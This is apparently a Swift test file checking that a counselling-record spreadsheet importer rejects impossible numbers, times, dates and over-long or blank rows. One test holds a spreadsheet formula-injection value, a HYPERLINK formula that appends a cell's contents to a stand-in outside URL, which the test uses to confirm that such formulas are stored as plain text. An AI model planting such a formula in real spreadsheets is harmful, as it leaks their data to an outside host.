import Casework
import TestSupport
import Testing

/// Rows that nobody would write in good faith, or that a program has mangled (K2-03, attack 24).
struct HostileRowTests {
    private let today: Day

    init() throws { today = try #require(Day(year: 2026, month: 11, day: 21)) }

    @Test(arguments: [
        Cell.number(.infinity), .number(.nan), .number(-.infinity), .number(1e300), .number(-1),
        .text("999999999999999999시간"), .text("99999999999999999999"), .minutes(.max),
        .text("20250304 30분"), .beyond("99999:00"), .text("=1+1"),
    ])
    func `a number that no length has is told and ends nothing`(cell: Cell) {
        #expect(throws: ValueTrouble.noLength) { try LengthReading.read(cell) }
    }

    @Test(arguments: [
        Cell.number(.infinity), .number(.nan), .number(1e300), .number(-0.5), .number(99_999),
        .text("999999999999999999:00"), .text("14:99999999999999999999"), .text("24:00"),
        .text("14:00~25:00"), .text("~"), .beyond("25:61:00"),
    ])
    func `a number that no clock shows is told and ends nothing`(cell: Cell) {
        #expect(throws: ValueTrouble.noTime) { try TimeReading.read(cell) }
    }

    @Test(arguments: [
        Cell.number(.infinity), .number(.nan), .number(1e300), .number(-45_000),
        .text("99999999999999999999"), .text("20265.11.3"), .text("2026.99999999999999999999.1"),
        .text("10:05"), .text("14시"), .text("11/3 2회"), .beyond("10000-01-01"),
    ])
    func `a number that no calendar shows is told and ends nothing`(cell: Cell) {
        #expect(throws: ValueTrouble.self) { try DayReading(year: 2026).read(cell) }
    }

    @Test func `what looks like a formula is the words that it is`() throws {
        let formula = #"=HYPERLINK("http://x.invalid/?"&A1,"누르세요")"#
        let row = RowOnPaper(["상담일": "2025.3.4", "내용": formula, "내담자": "@SUM(1)"])
        let read = try row.passing(on: today)
        #expect(read.fields.text(.heard) == formula && read.person == "@SUM(1)")
    }

    @Test
    func `words that no entry holds are told at the longest cell, and not when it is written`()
        throws
    {
        let half = String(repeating: "가", count: Limits.words / 5)
        let two = RowOnPaper(["상담일": "2025.3.4", "내용": half + "가", "합의": half])
        let troubles = try two.failing(on: today)
        #expect(troubles.map(\.reason) == [.textTooLong] && troubles.map(\.column) == [1])
        #expect(throws: Never.self) {
            try RowOnPaper(["상담일": "2025.3.4", "내용": half]).passing(on: today)
        }
        let mebibyte = String(repeating: "a", count: 1 << 20)
        let one = try RowOnPaper(["상담일": "2025.3.4", "내용": mebibyte]).failing(on: today)
        #expect(one.map(\.reason) == [.textTooLong])
    }

    @Test func `rows of nothing but white space and signs of no width are no rows`() throws {
        for blank in ["", " ", "\u{200B}", "\u{3000}\u{FEFF}", "\u{2800}", "\u{3164}\n\t"] {
            let row = RowOnPaper(["상담일": blank, "내용": blank, "내담자": blank])
            guard case .blank = try row.reading(on: today).read(row.row) else {
                Issue.record("it was taken for a row")
                continue
            }
        }
    }
}
